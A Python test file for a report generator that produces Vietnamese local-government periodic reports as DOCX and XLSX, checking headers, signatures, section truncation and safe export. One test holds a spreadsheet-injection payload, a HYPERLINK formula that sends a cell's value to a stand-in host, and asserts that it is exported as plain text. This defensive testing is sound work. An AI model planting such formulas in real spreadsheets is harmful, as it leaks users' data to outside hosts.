"""The periodic report's document, built from figures given here: its header and signature
follow the reporting unit (a People's Committee or a body under one), and no section is cut
silently."""

import io
from datetime import date

import pytest
from docx import Document

from services.reports.documents import QUOTED, PeriodicReport, docx_bytes
from shared.periods import Period

pytestmark = pytest.mark.unit

FIGURES = {
    "expected": 0,
    "reported": 0,
    "on_time": 0,
    "completeness": None,
    "timeliness": None,
    "states": dict.fromkeys(("done_on_time", "done_late", "in_progress", "overdue", "not_due"), 0),
}


def report(name: str, level: str, parent: str | None, good_models: int = 0) -> PeriodicReport:
    quoted = [
        {"unit": "b", "name": name, "task_ref": "1", "task_title": "Tuyên truyền", "text": f"Mô hình số {i}"}
        for i in range(good_models)
    ]
    return PeriodicReport(
        unit="x",
        unit_name=name,
        unit_level=level,
        parent_name=parent,
        period=Period.parse("2026-H1"),
        view="current",
        issued_on=date(2026, 7, 3),
        number="",
        totals=FIGURES,
        outputs={},
        outputs_by_area={},
        tasks=[],
        children=[],
        lagging=[],
        highlights={"good_models": quoted},
    )


def test_a_commune_signs_for_its_peoples_committee() -> None:
    commune = report("Xã Ia Hrú", "commune", "Tỉnh Gia Lai")
    assert commune.issuer_lines == [("ỦY BAN NHÂN DÂN XÃ IA HRÚ", {"bold": True, "size": 13})]
    assert commune.signature == ["TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH"]
    assert commune.place == "Ia Hrú"


def test_a_body_is_named_under_its_governing_committee_and_signed_by_its_head() -> None:
    body = report("Phòng Văn hóa - Xã hội", "body", "Xã Ia Hrú")
    assert [text for text, _ in body.issuer_lines] == ["ỦY BAN NHÂN DÂN XÃ IA HRÚ", "PHÒNG VĂN HÓA - XÃ HỘI"]
    assert [style.get("bold", False) for _, style in body.issuer_lines] == [False, True]
    assert body.signature == ["TRƯỞNG PHÒNG"]
    document = Document(io.BytesIO(docx_bytes(body)))
    assert document.tables[0].rows[0].cells[0].text == "ỦY BAN NHÂN DÂN XÃ IA HRÚ\nPHÒNG VĂN HÓA - XÃ HỘI\n"
    assert document.tables[-1].rows[0].cells[1].text.startswith("TRƯỞNG PHÒNG\n(Ký, ghi rõ họ tên, đóng dấu)")
    assert report("Trung tâm Văn hóa", "body", "Xã Ia Hrú").signature == ["THỦ TRƯỞNG CƠ QUAN"]


def test_a_long_section_quotes_the_first_lines_and_says_how_many_more() -> None:
    texts = [p.text for p in Document(io.BytesIO(docx_bytes(report("Xã A", "commune", None, 57)))).paragraphs]
    quoted = [text for text in texts if "Mô hình số" in text]
    assert len(quoted) == QUOTED and quoted[-1].endswith(f"Mô hình số {QUOTED - 1}")
    assert "- Và 7 mô hình khác (chi tiết tại tệp Excel kèm theo, trang “Ý kiến”)." in texts
    few = [p.text for p in Document(io.BytesIO(docx_bytes(report("Xã A", "commune", None, 3)))).paragraphs]
    assert sum("Mô hình số" in text for text in few) == 3 and not any(text.startswith("- Và") for text in few)


def test_what_an_official_typed_is_exported_as_text_whatever_it_holds() -> None:
    """A control character in a note made every ancestor's DOCX and XLSX fail; a note starting
    with '=' was written into the XLSX as a formula."""
    from openpyxl import load_workbook

    from services.reports.documents import xlsx_bytes

    typed = report("Xã Ia Hrú", "commune", "Tỉnh Gia Lai", good_models=1)
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"bấm")'
    typed.highlights["good_models"][0]["text"] = "Mô hình\u0007 hay\x0b" + "\ufffe"
    typed.highlights["good_models"].append({**typed.highlights["good_models"][0], "text": formula})

    text = "\n".join(p.text for p in Document(io.BytesIO(docx_bytes(typed))).paragraphs)
    assert "Mô hình hay" in text and "\u0007" not in text

    workbook = load_workbook(io.BytesIO(xlsx_bytes(typed)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any(cell.value == "Mô hình hay" for cell in cells)
    typed_formula = [cell for cell in cells if str(cell.value).startswith("=")]
    assert [cell.value for cell in typed_formula] == [formula]
    assert all(cell.data_type == "s" for cell in typed_formula)
